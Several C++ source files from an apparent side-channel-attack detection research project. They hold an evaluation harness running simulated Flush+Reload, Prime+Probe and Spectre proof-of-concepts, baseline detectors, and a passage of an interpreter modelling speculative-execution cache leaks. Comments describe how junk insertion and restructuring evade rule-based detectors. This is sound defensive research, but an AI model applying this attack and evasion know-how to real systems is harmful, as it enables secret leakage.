#include "trace/merge.h"

namespace scag::eval {

namespace {

std::string defense_name(cache::DefensePolicy d) {
  return d == cache::DefensePolicy::kSharp ? "sharp" : "none";
}

int noise_pct(double noise) {
  return static_cast<int>(std::lround(noise * 100.0));
}

/// Lowercases and maps every non-[a-z0-9] char to '_' (telemetry keys).
std::string sanitize(const std::string& s) {
  std::string out;
  out.reserve(s.size());
  for (char c : s) {
    if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
    const bool ok = (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9');
    out.push_back(ok ? c : '_');
  }
  return out;
}

/// ExecOptions of a cell's trace-collection run: the canonical experiment
/// options plus the cell's defense and noise axes. Noise needs a sampling
/// cadence to act on (it jitters snapshot reads, nothing else).
core::ModelConfig cell_model_config(const ScenarioCell& cell) {
  core::ModelConfig cfg = experiment_model_config();
  cfg.exec.cache_config.defense = cell.defense;
  if (cell.noise > 0.0) {
    cfg.exec.sample_interval = 2000;
    cfg.exec.sample_noise = cell.noise;
  }
  return cfg;
}

/// Attributes the victim's code to cache::Owner::kVictim so the SHARP
/// defense has owner boundaries to act on: the "victim" subroutine of the
/// FR/PP-style PoCs, or the speculatively executed "gadget" of the Spectre
/// PoCs. Programs without either (none of ours) get no range, which makes
/// SHARP owner-blind — and therefore a no-op relative to plain LRU.
void add_victim_range(cpu::ExecOptions& exec, const isa::Program& program) {
  const auto& labels = program.labels();
  const std::uint64_t code_end =
      program.code_base() + program.size() * isa::kInstrSize;
  if (auto it = labels.find("victim"); it != labels.end()) {
    exec.victim_ranges.emplace_back(it->second, code_end);
  } else if (auto git = labels.find("gadget"); git != labels.end()) {
    const auto gend = labels.find("gadget_end");
    exec.victim_ranges.emplace_back(
        git->second, gend != labels.end() ? gend->second : code_end);
  }
}

struct RawRun {
  isa::Program program;
  trace::ExecutionProfile profile;
  cpu::Memory memory;
};

RawRun run_program(const isa::Program& program, cpu::ExecOptions exec) {
  add_victim_range(exec, program);
  cpu::Interpreter interp(std::move(exec));
  cpu::RunResult result = interp.run(program);
  RawRun out;
  out.program = program;
  out.profile = std::move(result.profile);
  out.memory = std::move(result.memory);
  return out;
}

}  // namespace

std::string ScenarioCell::label() const {
  return attack + "/" + defense_name(defense) + "/n" +
         std::to_string(noise_pct(noise)) + "/s" + std::to_string(spies);
}

std::string ScenarioCell::telemetry_key() const {
  return sanitize(attack) + "__" + defense_name(defense) + "__n" +
         std::to_string(noise_pct(noise)) + "__s" + std::to_string(spies);
}

std::vector<ScenarioCell> scenario_grid(bool smoke) {
  struct Single {
    const char* name;
    core::Family family;
  };
  static constexpr std::array<Single, 4> kSingles = {{
      {"FR-IAIK", core::Family::kFlushReload},
      {"PP-IAIK", core::Family::kPrimeProbe},
      {"Spectre-FR-Ideal", core::Family::kSpectreFR},
      {"Spectre-PP-Trippel", core::Family::kSpectrePP},
  }};
  static constexpr std::array<cache::DefensePolicy, 2> kDefenses = {
      cache::DefensePolicy::kNone, cache::DefensePolicy::kSharp};

  const std::size_t num_singles = smoke ? 2 : kSingles.size();
  const std::vector<double> noises = smoke ? std::vector<double>{0.0}
                                           : std::vector<double>{0.0, 0.1, 0.4};
  const std::vector<int> spy_counts =
      smoke ? std::vector<int>{2} : std::vector<int>{2, 3, 4};
  const std::size_t num_multi = smoke ? 1 : attacks::all_multi_spy_specs().size();

  std::vector<ScenarioCell> grid;
  for (std::size_t a = 0; a < num_singles; ++a)
    for (const cache::DefensePolicy defense : kDefenses)
      for (const double noise : noises)
        grid.push_back({kSingles[a].name, kSingles[a].family, defense, noise,
                        /*spies=*/1});
  for (std::size_t a = 0; a < num_multi; ++a) {
    const attacks::MultiSpySpec& spec = attacks::all_multi_spy_specs()[a];
    for (const cache::DefensePolicy defense : kDefenses)
      for (const double noise : noises)
        for (const int spies : spy_counts)
          grid.push_back({spec.name, spec.family, defense, noise, spies});
  }
  return grid;
}

core::Detector make_scenario_detector() {
  return make_scaguard({core::Family::kFlushReload, core::Family::kPrimeProbe,
                        core::Family::kSpectreFR, core::Family::kSpectrePP});
}

ScenarioRun run_scenario_target(const ScenarioCell& cell,
                                std::uint64_t secret) {
  const core::ModelConfig cfg = cell_model_config(cell);
  const core::ModelBuilder builder(cfg);
  const attacks::Layout layout;
  attacks::PocConfig poc_config;
  poc_config.secret = secret % attacks::Layout::kNumSlots;

  ScenarioRun out;
  if (cell.spies <= 1) {
    const attacks::PocSpec& spec = attacks::poc_by_name(cell.attack);
    const RawRun run = run_program(spec.build(poc_config), cfg.exec);
    out.target = builder
                     .build_from_profile(cfg::Cfg::build(run.program),
                                         run.profile, cell.family)
                     .sequence;
    out.recovered =
        run.memory.read(layout.recovered_addr) == poc_config.secret;
    out.sharp_alarms =
        run.profile.sharp_alarms_attacker + run.profile.sharp_alarms_victim;
    return out;
  }

  // Multi-spy: run every spy in its own address space/cache, merge the
  // traces deterministically, and model the merged behavior.
  const attacks::MultiSpySpec& spec = attacks::multi_spy_by_name(cell.attack);
  std::vector<RawRun> runs;
  runs.reserve(static_cast<std::size_t>(cell.spies));
  for (int k = 0; k < cell.spies; ++k)
    runs.push_back(
        run_program(spec.build_spy(poc_config, k, cell.spies), cfg.exec));

  std::vector<trace::SpyRun> spy_runs;
  for (const RawRun& r : runs) spy_runs.push_back({&r.program, &r.profile});
  const trace::MergedTrace merged = trace::merge_spy_traces(
      spy_runs, cell.attack + "-x" + std::to_string(cell.spies));

  out.target = builder
                   .build_from_profile(cfg::Cfg::build(merged.program),
                                       merged.profile, cell.family)
                   .sequence;

  // Cooperative recovery: the spies' slot shares are disjoint, so summing
  // the per-spy histograms reconstructs the full 16-slot histogram; the
  // argmax (lowest slot on ties) is the cooperative guess.
  std::uint64_t best_votes = 0;
  std::uint64_t best_slot = 0;
  for (std::uint64_t s = 0; s < attacks::Layout::kNumSlots; ++s) {
    std::uint64_t votes = 0;
    for (const RawRun& r : runs) votes += r.memory.read(layout.histogram + 8 * s);
    if (votes > best_votes) {
      best_votes = votes;
      best_slot = s;
    }
  }
  out.recovered = best_votes > 0 && best_slot == poc_config.secret;
  for (const RawRun& r : runs)
    out.sharp_alarms +=
        r.profile.sharp_alarms_attacker + r.profile.sharp_alarms_victim;
  return out;
}

CellResult run_scenario_cell(const core::Detector& detector,
                             const ScenarioCell& cell,
                             const std::vector<std::uint64_t>& secrets) {
  if (secrets.empty())
    throw std::invalid_argument("run_scenario_cell: no secrets");
  CellResult result;
  result.cell = cell;
  for (const std::uint64_t secret : secrets) {
    ScenarioRun run = run_scenario_target(cell, secret);
    const core::Detection detection = detector.scan(run.target);
    if (detection.is_attack()) result.detection_rate += 1.0;
    if (detection.verdict == cell.family) result.classification_rate += 1.0;
    if (run.recovered) result.recovery_rate += 1.0;
    result.mean_best_score += detection.best_score;
    result.sharp_alarms += run.sharp_alarms;
    result.targets.push_back(std::move(run.target));
    result.detections.push_back(detection);
  }
  const double n = static_cast<double>(secrets.size());
  result.detection_rate /= n;
  result.classification_rate /= n;
  result.recovery_rate /= n;
  result.mean_best_score /= n;
  return result;
}

std::vector<core::CstBbs> run_spy_targets(const ScenarioCell& cell,
                                          std::uint64_t secret) {
  if (cell.spies < 2)
    throw std::invalid_argument("run_spy_targets: not a multi-spy cell");
  const core::ModelConfig cfg = cell_model_config(cell);
  const core::ModelBuilder builder(cfg);
  attacks::PocConfig poc_config;
  poc_config.secret = secret % attacks::Layout::kNumSlots;
  const attacks::MultiSpySpec& spec = attacks::multi_spy_by_name(cell.attack);
  std::vector<core::CstBbs> out;
  for (int k = 0; k < cell.spies; ++k) {
    const RawRun run =
        run_program(spec.build_spy(poc_config, k, cell.spies), cfg.exec);
    out.push_back(builder
                      .build_from_profile(cfg::Cfg::build(run.program),
                                          run.profile, cell.family)
                      .sequence);
  }
  return out;
}

core::Detection exhaustive_scan(const core::Detector& detector,
                                const core::CstBbs& target) {
  std::vector<core::ModelScore> scores;
  scores.reserve(detector.repository_size());
  for (const core::AttackModel& model : detector.repository()) {
    core::ModelScore s;
    s.model_name = model.name;
    s.family = model.family;
    s.score = core::similarity(target, model.sequence, detector.dtw_config());
    scores.push_back(std::move(s));
  }
  return core::Detector::finalize(std::move(scores), detector.threshold());
}

bool detection_equivalent(const core::Detection& a, const core::Detection& b) {
  if (a.verdict != b.verdict) return false;
  if (std::bit_cast<std::uint64_t>(a.best_score) !=
      std::bit_cast<std::uint64_t>(b.best_score))
    return false;
  if (a.scores.empty() != b.scores.empty()) return false;
  if (!a.scores.empty() &&
      a.scores.front().model_name != b.scores.front().model_name)
    return false;
  return true;
}

}  // namespace scag::eval
