// Related-work detectors from the paper's Section VI, reproduced so their
// claimed weaknesses can be demonstrated (bench_related_detectors):
//
//   AnomalyDetector  — victim/benign-oriented anomaly detection in the
//     style of Chiappetta et al.: trains on BENIGN HPC profiles only and
//     flags anything too far from that distribution. Needs no attack
//     samples, but "data from a single source may lead to a high false
//     positive ratio and the identified attacks cannot be further
//     classified" (paper, §VI).
//
//   PhasedDetector — Phased-Guard-style two-stage pipeline: an anomaly
//     gate followed by a multi-class classifier that attributes the attack
//     family. Classifies, but inherits the learning-based approaches' need
//     for attack training data.
#pragma once

#include <memory>
#include <vector>

#include "baselines/learning.h"
#include "ml/features.h"

namespace scag::baselines {

struct AnomalyConfig {
  /// Threshold = this quantile of the benign training scores. Anything
  /// above it is flagged, so roughly (1 - quantile) of benign traffic
  /// false-positives by construction — the "high false positive ratio" the
  /// paper attributes to single-source anomaly detection.
  double train_quantile = 0.95;
};

class AnomalyDetector {
 public:
  explicit AnomalyDetector(AnomalyConfig config = {}) : config_(config) {}

  /// Trains on benign profiles ONLY.
  void train(const std::vector<trace::ExecutionProfile>& benign_profiles);

  /// Anomaly score of a profile (mean |z| over features).
  double score(const trace::ExecutionProfile& profile) const;

  /// True if the profile lies outside the benign envelope.
  bool is_anomalous(const trace::ExecutionProfile& profile) const {
    return score(profile) > threshold_;
  }

  double threshold() const { return threshold_; }

 private:
  AnomalyConfig config_;
  ml::Standardizer standardizer_;
  double threshold_ = 0.0;
  bool trained_ = false;
};

class PhasedDetector {
 public:
  explicit PhasedDetector(LearnerKind classifier_kind = LearnerKind::kSvmNw)
      : classifier_(classifier_kind) {}

  /// Stage 1 trains on the benign profiles; stage 2 trains on the labeled
  /// attack profiles (families only; no benign class needed — the gate
  /// already filtered).
  void train(const std::vector<trace::ExecutionProfile>& benign_profiles,
             const std::vector<trace::ExecutionProfile>& attack_profiles,
             const std::vector<core::Family>& attack_labels, Rng& rng);

  /// kBenign if the anomaly gate passes the sample; otherwise the stage-2
  /// family attribution.
  core::Family classify(const trace::ExecutionProfile& profile) const;

  const AnomalyDetector& gate() const { return gate_; }

 private:
  AnomalyDetector gate_;
  LearningDetector classifier_;
};

}  // namespace scag::baselines
