// Learning-based baseline detectors of Table VI:
//   SVM-NW   : NIGHTs-WATCH with a linear SVM
//   LR-NW    : NIGHTs-WATCH with (logistic) regression
//   KNN-MLFM : KNN-based malicious loop finding
// Each samples HPC time series (profiles must be collected with a nonzero
// sample_interval), standardizes features, selects hyperparameters by
// 10-fold cross-validation, and classifies into attack families + benign.
#pragma once

#include <memory>
#include <vector>

#include "core/family.h"
#include "ml/crossval.h"
#include "trace/profile.h"

namespace scag::baselines {

enum class LearnerKind { kSvmNw, kLrNw, kKnnMlfm };

std::string_view learner_name(LearnerKind kind);

class LearningDetector {
 public:
  explicit LearningDetector(LearnerKind kind, int cv_folds = 10)
      : kind_(kind), cv_folds_(cv_folds) {}

  LearnerKind kind() const { return kind_; }

  /// Trains on labeled profiles. Labels are Family values (ints), with
  /// kBenign as its own class.
  void train(const std::vector<trace::ExecutionProfile>& profiles,
             const std::vector<core::Family>& labels, Rng& rng);

  /// Classifies a profile into a Family (possibly kBenign).
  core::Family classify(const trace::ExecutionProfile& profile) const;

 private:
  LearnerKind kind_;
  int cv_folds_;
  ml::Standardizer standardizer_;
  std::unique_ptr<ml::Classifier> model_;
};

}  // namespace scag::baselines
