#include "baselines/learning.h"

#include <stdexcept>

namespace scag::baselines {

std::string_view learner_name(LearnerKind kind) {
  switch (kind) {
    case LearnerKind::kSvmNw: return "SVM-NW";
    case LearnerKind::kLrNw: return "LR-NW";
    case LearnerKind::kKnnMlfm: return "KNN-MLFM";
  }
  return "<bad-learner>";
}

void LearningDetector::train(
    const std::vector<trace::ExecutionProfile>& profiles,
    const std::vector<core::Family>& labels, Rng& rng) {
  if (profiles.size() != labels.size() || profiles.empty())
    throw std::invalid_argument("LearningDetector::train: bad training set");

  std::vector<ml::FeatureVector> xs;
  xs.reserve(profiles.size());
  for (const auto& p : profiles) xs.push_back(ml::extract_features(p));
  standardizer_.fit(xs);
  xs = standardizer_.transform_all(xs);

  std::vector<int> ys;
  ys.reserve(labels.size());
  for (core::Family f : labels) ys.push_back(static_cast<int>(f));
  const int num_classes = static_cast<int>(core::Family::kCount);

  // Small hyperparameter grids, selected by k-fold CV ("fine-tuned
  // parameters" in the paper's protocol).
  std::vector<std::function<std::unique_ptr<ml::Classifier>()>> candidates;
  switch (kind_) {
    case LearnerKind::kSvmNw:
      for (double lambda : {1e-3, 1e-4, 1e-5}) {
        candidates.push_back([lambda] {
          ml::LinearConfig c;
          c.lambda = lambda;
          c.epochs = 30;
          return std::make_unique<ml::LinearSvm>(c);
        });
      }
      break;
    case LearnerKind::kLrNw:
      // NIGHTs-WATCH's LR is plain linear regression used as a classifier.
      for (double lr : {0.002, 0.01, 0.05}) {
        candidates.push_back([lr] {
          ml::LinearConfig c;
          c.lr = lr;
          c.epochs = 30;
          return std::make_unique<ml::LinearRegressionClassifier>(c);
        });
      }
      break;
    case LearnerKind::kKnnMlfm:
      for (int k : {3, 5, 9}) {
        candidates.push_back(
            [k] { return std::make_unique<ml::Knn>(k); });
      }
      break;
  }
  model_ = ml::select_and_train(candidates, xs, ys, num_classes, cv_folds_,
                                rng);
}

core::Family LearningDetector::classify(
    const trace::ExecutionProfile& profile) const {
  if (!model_)
    throw std::logic_error("LearningDetector::classify before train");
  const ml::FeatureVector x =
      standardizer_.transform(ml::extract_features(profile));
  return static_cast<core::Family>(model_->predict(x));
}

}  // namespace scag::baselines
