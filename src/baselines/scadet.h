// SCADET reimplementation (Sabbagh et al., ICCAD'18): a learning-free,
// rule-based Prime+Probe detector. It pattern-matches the *structural*
// signature of a Prime+Probe attack in the runtime trace:
//
//   P1. a "prime walk": a pure access-loop basic block that touches at
//       least `min_ways` distinct lines of a single cache set;
//   P2. a later "probe walk": a pure access-loop block touching the same
//       lines, with timing (rdtscp) in its immediate CFG neighborhood;
//   P3. phase order: prime executes before probe (first-execution cycles).
//
// "Pure access loop" is deliberately strict (a short block of loads,
// pointer arithmetic, and one backward conditional branch): that is what a
// hand-written rule matches — and why junk insertion, obfuscation, and
// restructured variants slip past it, exactly the brittleness the paper's
// Table VI documents.
#pragma once

#include <string>

#include "cache/cache.h"
#include "cfg/cfg.h"
#include "core/family.h"
#include "trace/profile.h"

namespace scag::baselines {

struct ScadetConfig {
  /// LLC geometry used to map lines onto sets.
  cache::CacheConfig set_mapping{1024, 16, 64};
  /// Minimum distinct same-set lines for a walk to count as prime/probe.
  std::uint32_t min_ways = 12;
  /// Maximum instruction count of a "pure access loop" block.
  std::size_t max_loop_block_len = 10;
};

struct ScadetResult {
  bool detected = false;
  core::Family verdict = core::Family::kBenign;  // kPrimeProbe when detected
  std::string reason;
};

/// Applies the rules to one executed program.
ScadetResult scadet_detect(const cfg::Cfg& cfg,
                           const trace::ExecutionProfile& profile,
                           const ScadetConfig& config = {});

}  // namespace scag::baselines
