#include "baselines/anomaly.h"

#include <algorithm>
#include <cmath>
#include <functional>
#include <stdexcept>

#include "support/stats.h"

namespace scag::baselines {

void AnomalyDetector::train(
    const std::vector<trace::ExecutionProfile>& benign_profiles) {
  if (benign_profiles.empty())
    throw std::invalid_argument("AnomalyDetector::train: empty training set");
  std::vector<ml::FeatureVector> xs;
  xs.reserve(benign_profiles.size());
  for (const auto& p : benign_profiles) xs.push_back(ml::extract_features(p));
  standardizer_.fit(xs);
  trained_ = true;

  // Envelope: a quantile of the benign training scores.
  std::vector<double> scores;
  scores.reserve(benign_profiles.size());
  for (const auto& p : benign_profiles) scores.push_back(score(p));
  threshold_ = percentile(scores, config_.train_quantile);
}

double AnomalyDetector::score(const trace::ExecutionProfile& profile) const {
  if (!trained_)
    throw std::logic_error("AnomalyDetector::score before train");
  ml::FeatureVector z =
      standardizer_.transform(ml::extract_features(profile));
  for (double& v : z) v = std::abs(v);
  // Attacks manifest as extreme values in a few dimensions (flush-driven
  // miss rates, probe-phase burstiness); average the top quartile so those
  // peaks dominate instead of being diluted across all features.
  std::sort(z.begin(), z.end(), std::greater<double>());
  const std::size_t k = std::max<std::size_t>(1, z.size() / 4);
  double acc = 0.0;
  for (std::size_t i = 0; i < k; ++i) acc += z[i];
  return acc / static_cast<double>(k);
}

void PhasedDetector::train(
    const std::vector<trace::ExecutionProfile>& benign_profiles,
    const std::vector<trace::ExecutionProfile>& attack_profiles,
    const std::vector<core::Family>& attack_labels, Rng& rng) {
  gate_.train(benign_profiles);
  classifier_.train(attack_profiles, attack_labels, rng);
}

core::Family PhasedDetector::classify(
    const trace::ExecutionProfile& profile) const {
  if (!gate_.is_anomalous(profile)) return core::Family::kBenign;
  return classifier_.classify(profile);
}

}  // namespace scag::baselines
