#include "baselines/scadet.h"

#include <map>
#include <set>
#include <vector>

#include "support/strings.h"

namespace scag::baselines {

using cfg::BlockId;
using isa::Instruction;
using isa::Opcode;

namespace {

/// The strict structural test: a short loop body of loads and pointer
/// arithmetic ending in a backward conditional branch, with no timing, no
/// flushes, no calls, no stores. Hand-written rules match shapes like this;
/// anything else (junk, dead-code jumps, fused phases) falls through.
bool is_pure_access_loop(const cfg::Cfg& cfg, BlockId id,
                         const ScadetConfig& config) {
  const cfg::BasicBlock& block = cfg.block(id);
  if (block.count > config.max_loop_block_len) return false;
  const isa::Program& program = cfg.program();
  bool has_load = false;
  for (std::size_t i = block.first; i <= block.last(); ++i) {
    const Instruction& insn = program.at(i);
    switch (insn.op) {
      case Opcode::kRdtscp:
      case Opcode::kClflush:
      case Opcode::kCall:
      case Opcode::kRet:
      case Opcode::kPush:
      case Opcode::kPop:
      case Opcode::kHlt:
      case Opcode::kJmp:
      case Opcode::kNop:  // junk breaks the exact pattern the rule encodes
        return false;
      default:
        break;
    }
    // Identity moves are junk, not part of the designated walk pattern.
    if (insn.op == Opcode::kMov && insn.dst.is_reg() && insn.src.is_reg() &&
        insn.dst.reg == insn.src.reg)
      return false;
    if (isa::writes_memory(insn)) return false;
    if (isa::reads_memory(insn)) has_load = true;
    if (isa::is_cond_branch(insn.op)) {
      // Must be the block terminator and jump backward (a loop).
      if (i != block.last()) return false;
      if (insn.target > insn.address) return false;
    }
  }
  if (!has_load) return false;
  return isa::is_cond_branch(program.at(block.last()).op);
}

/// True if a block containing rdtscp exists within one CFG hop of `id`.
bool timed_neighborhood(const cfg::Cfg& cfg, BlockId id) {
  auto block_has_rdtscp = [&cfg](BlockId b) {
    const cfg::BasicBlock& blk = cfg.block(b);
    for (std::size_t i = blk.first; i <= blk.last(); ++i)
      if (cfg.program().at(i).op == Opcode::kRdtscp) return true;
    return false;
  };
  if (block_has_rdtscp(id)) return true;
  for (BlockId p : cfg.predecessors(id))
    if (block_has_rdtscp(p)) return true;
  for (BlockId s : cfg.successors(id))
    if (block_has_rdtscp(s)) return true;
  return false;
}

}  // namespace

ScadetResult scadet_detect(const cfg::Cfg& cfg,
                           const trace::ExecutionProfile& profile,
                           const ScadetConfig& config) {
  ScadetResult result;
  const cache::Cache mapper(config.set_mapping);

  // Per block: lines grouped by cache set, plus first-execution cycle.
  struct WalkInfo {
    BlockId block;
    std::uint32_t set;
    std::set<std::uint64_t> lines;
    std::uint64_t first_cycle;
  };
  std::vector<WalkInfo> walks;

  for (BlockId id = 0; id < cfg.num_blocks(); ++id) {
    const cfg::BasicBlock& block = cfg.block(id);
    std::uint64_t first_cycle = 0;
    std::map<std::uint32_t, std::set<std::uint64_t>> by_set;
    for (std::size_t i = block.first; i <= block.last(); ++i) {
      const std::uint64_t fc = profile.first_cycle[i];
      if (fc != 0 && (first_cycle == 0 || fc < first_cycle)) first_cycle = fc;
      for (std::uint64_t line : profile.line_addrs[i])
        by_set[mapper.set_index(line)].insert(line);
    }
    if (first_cycle == 0) continue;  // never executed
    if (!is_pure_access_loop(cfg, id, config)) continue;
    for (auto& [set_idx, lines] : by_set) {
      if (lines.size() >= config.min_ways)
        walks.push_back({id, set_idx, std::move(lines), first_cycle});
    }
  }

  // P1 + P2 + P3: find a prime walk and a later probe walk over the same
  // lines of the same set, the probe one with timing nearby.
  for (const WalkInfo& prime : walks) {
    for (const WalkInfo& probe : walks) {
      if (prime.block == probe.block) continue;
      if (prime.set != probe.set) continue;
      if (probe.first_cycle <= prime.first_cycle) continue;
      // Same eviction-set lines (the designated rule matches re-walks).
      std::size_t common = 0;
      for (std::uint64_t line : probe.lines) common += prime.lines.count(line);
      if (common < config.min_ways) continue;
      if (!timed_neighborhood(cfg, probe.block)) continue;
      result.detected = true;
      result.verdict = core::Family::kPrimeProbe;
      result.reason = strfmt(
          "prime walk in BB%u and timed probe walk in BB%u over set %u",
          prime.block, probe.block, prime.set);
      return result;
    }
  }
  result.reason = "no prime+probe phase pattern matched";
  return result;
}

}  // namespace scag::baselines
