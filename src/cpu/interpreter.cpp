#include "cpu/interpreter.h"

#include <stdexcept>
#include <unordered_map>

#include "support/failpoint.h"
#include "support/metrics.h"
#include "support/trace.h"

namespace scag::cpu {

using isa::Instruction;
using isa::Opcode;
using isa::Operand;
using isa::Program;
using isa::Reg;
using trace::HpcEvent;

/// Transient-execution context: shadow registers/flags and a store buffer.
/// Transient stores never reach the cache or architectural memory; transient
/// loads DO perturb the cache — that is the Spectre leak.
struct Interpreter::SpecCtx {
  RegFile regs;
  Flags flags;
  std::unordered_map<std::uint64_t, std::uint64_t> writes;
  std::size_t branch_idx = 0;  // instruction the events are attributed to
};

namespace {

/// Instructions that terminate a transient window (serializing or
/// not-speculated operations).
bool stops_speculation(Opcode op) {
  switch (op) {
    case Opcode::kLfence:
    case Opcode::kMfence:
    case Opcode::kRdtscp:
    case Opcode::kClflush:
    case Opcode::kHlt:
      return true;
    default:
      return false;
  }
}

bool eval_condition(Opcode op, const Flags& f) {
  switch (op) {
    case Opcode::kJe: return f.eq;
    case Opcode::kJne: return !f.eq;
    case Opcode::kJl: return f.slt;
    case Opcode::kJge: return !f.slt;
    case Opcode::kJle: return f.slt || f.eq;
    case Opcode::kJg: return !(f.slt || f.eq);
    case Opcode::kJb: return f.ult;
    case Opcode::kJae: return !f.ult;
    case Opcode::kJbe: return f.ult || f.eq;
    case Opcode::kJa: return !(f.ult || f.eq);
    default:
      throw std::logic_error("eval_condition: not a conditional branch");
  }
}

/// ALU evaluation; returns result and updates flags.
std::uint64_t alu(Opcode op, std::uint64_t a, std::uint64_t b, Flags& f) {
  std::uint64_t r = 0;
  bool ult = false;
  switch (op) {
    case Opcode::kAdd: r = a + b; ult = r < a; break;
    case Opcode::kSub: r = a - b; ult = a < b; break;
    case Opcode::kImul: r = a * b; break;
    case Opcode::kXor: r = a ^ b; break;
    case Opcode::kAnd: r = a & b; break;
    case Opcode::kOr: r = a | b; break;
    case Opcode::kShl: r = a << (b & 63); break;
    case Opcode::kShr: r = a >> (b & 63); break;
    case Opcode::kInc: r = a + 1; break;
    case Opcode::kDec: r = a - 1; ult = a < 1; break;
    case Opcode::kNeg: r = 0 - a; ult = a != 0; break;
    case Opcode::kNot: r = ~a; break;
    default:
      throw std::logic_error("alu: not an ALU opcode");
  }
  f.eq = r == 0;
  f.slt = static_cast<std::int64_t>(r) < 0;
  f.ult = ult;
  return r;
}

bool is_alu(Opcode op) {
  switch (op) {
    case Opcode::kAdd: case Opcode::kSub: case Opcode::kImul:
    case Opcode::kXor: case Opcode::kAnd: case Opcode::kOr:
    case Opcode::kShl: case Opcode::kShr:
      return true;
    default:
      return false;
  }
}

bool is_unary_alu(Opcode op) {
  return op == Opcode::kInc || op == Opcode::kDec || op == Opcode::kNeg ||
         op == Opcode::kNot;
}

}  // namespace

Interpreter::Interpreter(ExecOptions options)
    : options_(std::move(options)), hierarchy_(options_.cache_config) {}

std::uint64_t Interpreter::effective_addr(const isa::MemRef& m,
                                          const RegFile& regs) const {
  std::uint64_t ea = static_cast<std::uint64_t>(m.disp);
  if (m.base != isa::MemRef::kNoReg) ea += regs[static_cast<Reg>(m.base)];
  if (m.index != isa::MemRef::kNoReg)
    ea += regs[static_cast<Reg>(m.index)] * m.scale;
  return ea;
}

cache::Owner Interpreter::owner_for(std::uint64_t code_addr) const {
  for (const auto& [lo, hi] : options_.victim_ranges)
    if (code_addr >= lo && code_addr < hi) return cache::Owner::kVictim;
  return cache::Owner::kAttacker;
}

std::uint64_t Interpreter::do_load(std::uint64_t addr, cache::Owner owner,
                                   std::size_t idx, std::uint64_t& cost,
                                   SpecCtx* spec) {
  if (spec) {
    // Store-to-load forwarding from the transient store buffer: no cache
    // traffic, no events.
    auto it = spec->writes.find(Memory::align(addr));
    if (it != spec->writes.end()) return it->second;
    idx = spec->branch_idx;
  }
  const auto h = hierarchy_.load(addr, owner);
  cost += h.latency;
  auto& ctr = profile_.per_instr[idx];
  if (h.l1_hit) {
    ctr.bump(HpcEvent::kL1dLoadHit);
    profile_.totals.bump(HpcEvent::kL1dLoadHit);
  } else {
    ctr.bump(HpcEvent::kL1dLoadMiss);
    profile_.totals.bump(HpcEvent::kL1dLoadMiss);
    if (h.llc_hit) {
      ctr.bump(HpcEvent::kLlcLoadHit);
      profile_.totals.bump(HpcEvent::kLlcLoadHit);
    } else {
      ctr.bump(HpcEvent::kLlcLoadMiss);
      profile_.totals.bump(HpcEvent::kLlcLoadMiss);
      ctr.bump(HpcEvent::kCacheMiss);
      profile_.totals.bump(HpcEvent::kCacheMiss);
    }
  }
  auto& lines =
      spec ? profile_.transient_line_addrs[idx] : profile_.line_addrs[idx];
  lines.insert(hierarchy_.llc().line_addr(addr));
  return memory_.read(addr);
}

void Interpreter::do_store(std::uint64_t addr, std::uint64_t value,
                           cache::Owner owner, std::size_t idx,
                           std::uint64_t& cost, SpecCtx* spec) {
  if (spec) {
    spec->writes[Memory::align(addr)] = value;
    return;
  }
  const auto h = hierarchy_.store(addr, owner);
  cost += h.latency;
  auto& ctr = profile_.per_instr[idx];
  if (h.l1_hit) {
    ctr.bump(HpcEvent::kL1dStoreHit);
    profile_.totals.bump(HpcEvent::kL1dStoreHit);
  } else if (h.llc_hit) {
    ctr.bump(HpcEvent::kLlcStoreHit);
    profile_.totals.bump(HpcEvent::kLlcStoreHit);
  } else {
    ctr.bump(HpcEvent::kLlcStoreMiss);
    profile_.totals.bump(HpcEvent::kLlcStoreMiss);
    ctr.bump(HpcEvent::kCacheMiss);
    profile_.totals.bump(HpcEvent::kCacheMiss);
  }
  profile_.line_addrs[idx].insert(hierarchy_.llc().line_addr(addr));
  memory_.write(addr, value);
}

void Interpreter::take_samples_up_to(std::uint64_t cycles) {
  if (options_.sample_interval == 0) return;
  while (next_sample_at_ <= cycles) {
    trace::HpcCounters snap = profile_.totals;
    if (options_.sample_noise > 0.0) {
      for (auto& count : snap.counts) {
        // Multiplicative jitter plus an occasional interrupt-burst spike.
        const double jitter =
            1.0 + options_.sample_noise * (noise_rng_.uniform01() * 2.0 - 1.0);
        double v = static_cast<double>(count) * jitter;
        if (noise_rng_.chance(0.02))
          v += noise_rng_.uniform_real(1.0, 32.0);
        count = v <= 0.0 ? 0 : static_cast<std::uint64_t>(v);
      }
    }
    profile_.samples.push_back(snap);
    // Observe the LLC occupancy state (AO, IO) of Definition 3 live.
    const double ao = hierarchy_.llc().occupancy(cache::Owner::kAttacker);
    const double total = hierarchy_.llc().total_occupancy();
    profile_.occupancy_samples.emplace_back(ao, total - ao);
    next_sample_at_ += options_.sample_interval;
  }
}

void Interpreter::run_transient(const Program& program, std::uint64_t wrong_pc,
                                std::size_t branch_idx) {
  SpecCtx spec;
  spec.regs = regs_;
  spec.flags = flags_;
  spec.branch_idx = branch_idx;
  const cache::Owner owner = owner_for(wrong_pc);

  std::uint64_t pc = wrong_pc;
  std::uint64_t scratch_cost = 0;  // transient latency overlaps resolution
  for (std::uint32_t n = 0; n < options_.spec_window; ++n) {
    const std::size_t idx = program.index_of(pc);
    if (idx == Program::npos) return;
    const Instruction& insn = program.at(idx);
    if (stops_speculation(insn.op)) return;

    std::uint64_t next_pc = pc + isa::kInstrSize;

    auto read_operand = [&](const Operand& o) -> std::uint64_t {
      switch (o.kind) {
        case Operand::Kind::kImm: return static_cast<std::uint64_t>(o.imm);
        case Operand::Kind::kReg: return spec.regs[o.reg];
        case Operand::Kind::kMem:
          return do_load(effective_addr(o.mem, spec.regs), owner, idx,
                         scratch_cost, &spec);
        case Operand::Kind::kNone: return 0;
      }
      return 0;
    };
    auto write_operand = [&](const Operand& o, std::uint64_t v) {
      if (o.is_reg()) {
        spec.regs[o.reg] = v;
      } else if (o.is_mem()) {
        do_store(effective_addr(o.mem, spec.regs), v, owner, idx,
                 scratch_cost, &spec);
      }
    };

    switch (insn.op) {
      case Opcode::kMov:
        write_operand(insn.dst, read_operand(insn.src));
        break;
      case Opcode::kLea:
        spec.regs[insn.dst.reg] = effective_addr(insn.src.mem, spec.regs);
        break;
      case Opcode::kPush: {
        const std::uint64_t v = read_operand(insn.dst);
        spec.regs[Reg::RSP] -= 8;
        do_store(spec.regs[Reg::RSP], v, owner, idx, scratch_cost, &spec);
        break;
      }
      case Opcode::kPop: {
